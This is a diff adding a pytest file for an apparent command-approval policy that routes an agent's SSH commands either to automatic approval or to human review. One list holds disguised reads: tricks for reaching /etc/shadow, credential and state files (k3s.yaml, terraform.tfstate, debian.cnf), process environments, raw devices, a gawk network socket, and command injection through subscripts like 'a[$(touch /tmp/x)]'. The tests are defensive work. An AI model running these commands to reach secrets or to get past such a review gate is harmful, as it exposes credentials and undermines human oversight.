@@ -1,0 +1,111 @@
+"""Commands that look like reading and are more: an option, a file name or an order of words that does something else.
+
+Each was allowed without a person once. The shipped packs decide, so a gap in the table or in a rule shows here.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from datetime import UTC, datetime
+from functools import lru_cache
+
+import pytest
+
+from interlock.cli.asker import parse_who
+from interlock.cli.explain import EXAMPLES, decide
+from interlock.commands.model import Analysis, Command, Kind, ShellContext, Wire
+from interlock.policy import packs
+from interlock.policy.engine import PolicySet
+from interlock.policy.loader import load
+from interlock.policy.model import Verdict
+
+NOW = datetime(2026, 1, 5, 14, 0, tzinfo=UTC)
+Analyse = Callable[..., Analysis]
+
+MORE_THAN_READING = """
+mount -L data
+mount -U 1234
+mount --label data
+rpm -i x.rpm
+rpm -ivh https://example.com/x.rpm
+rpm -v -h -i x.rpm
+curl file:///etc/%73hadow
+curl 'file:///etc/shado{w,x}'
+curl file://127.0.0.1/etc/shadow
+curl -w '%output{/tmp/x}hi' file:///etc/hostname
+diff -N /etc /tmp/empty
+grep -d recurse '' /etc
+grep --directories=recurse root /etc
+cd /usr/bin; find env -exec cat '/srv/app/.{}' ';'
+find /etc/pam.d -maxdepth 0 -exec cat '{}/../shadow' ';'
+gawk '{print $1}' /inet/tcp/0/example.com/80
+jq -n 'import "config" as $x {search:"/root/.docker"}; $x'
+jq -n 'include "x" {search:"/tmp"}; .'
+cd /etc; POSIXLY_CORRECT=1 head hostname -n shadow
+POSIXLY_CORRECT=1 uniq /srv/in -z
+env POSIXLY_CORRECT=1 head hostname -n shadow
+for i in a b; do cat shadow; cd /etc; done
+while true; do cat shadow; cd /etc; done
+sh -c 'for i in a b; do cat shadow; cd /etc; done'
+if true; then for i in a b; do { cat shadow; cd /etc; }; done; fi
+cat etc/shadow
+cat /dev/disk/by-uuid/x
+cat /dev/mmcblk0
+cat /dev/md0
+cat /dev/input/event0
+cat /dev/vcs1
+cat /var/backups/shadow.bak
+cat terraform.tfstate
+cat /etc/rancher/k3s/k3s.yaml
+cat /etc/mysql/debian.cnf
+cat .git/config
+docker top web axe
+kubectl get -k github.com/example/x
+kubectl get -f http://example.com/x
+ps -e -o environ
+printf '%d' 'a[$(touch /tmp/x)]'
+printf '%s %i' x 'a[$(touch /tmp/x)]'
+printf '%*s' 'a[$(touch /tmp/x)]' x
+exit 'a[$(touch /tmp/x)]'
+test -t 'a[$(touch /tmp/x)]'
+[ -t 'a[$(touch /tmp/x)]' ]
+""".strip().splitlines()
+
+ONLY_READING = """
+rpm -qa
+rpm -qi bash
+mount
+mount -l -t nfs
+diff /srv/a /srv/b
+grep -r x /var/log
+find /var/log -name '*.log' -exec tail -n 1 '{}' ';'
+jq .import /srv/app/x.json
+for i in a b; do cat /etc/hostname; done
+cd /srv/app && ls -la
+docker top web
+kubectl get pods
+printf '%s\\n' 'a[0]'
+printf '%d%%' 5
+exit 1
+[ -t 1 ]
+""".strip().splitlines()
+
+
+@lru_cache
+def policy() -> PolicySet:
+    return load([packs.shipped()])
+
+
+def verdict(text: str, analysis: Analysis) -> Verdict:
+    command = Command(Wire.SSH, Kind.EXEC, text.encode(), context=ShellContext("bash"))
+    return decide(policy(), parse_who("agent"), EXAMPLES["ssh"], command, analysis, NOW).verdict
+
+
+@pytest.mark.parametrize("text", MORE_THAN_READING)
+def test_what_only_looks_like_reading_goes_to_a_person(text: str, analyse: Analyse) -> None:
+    assert verdict(text, analyse(text)) is Verdict.REVIEW
+
+
+@pytest.mark.parametrize("text", ONLY_READING)
+def test_reading_still_passes(text: str, analyse: Analyse) -> None:
+    assert verdict(text, analyse(text)) is Verdict.ALLOW
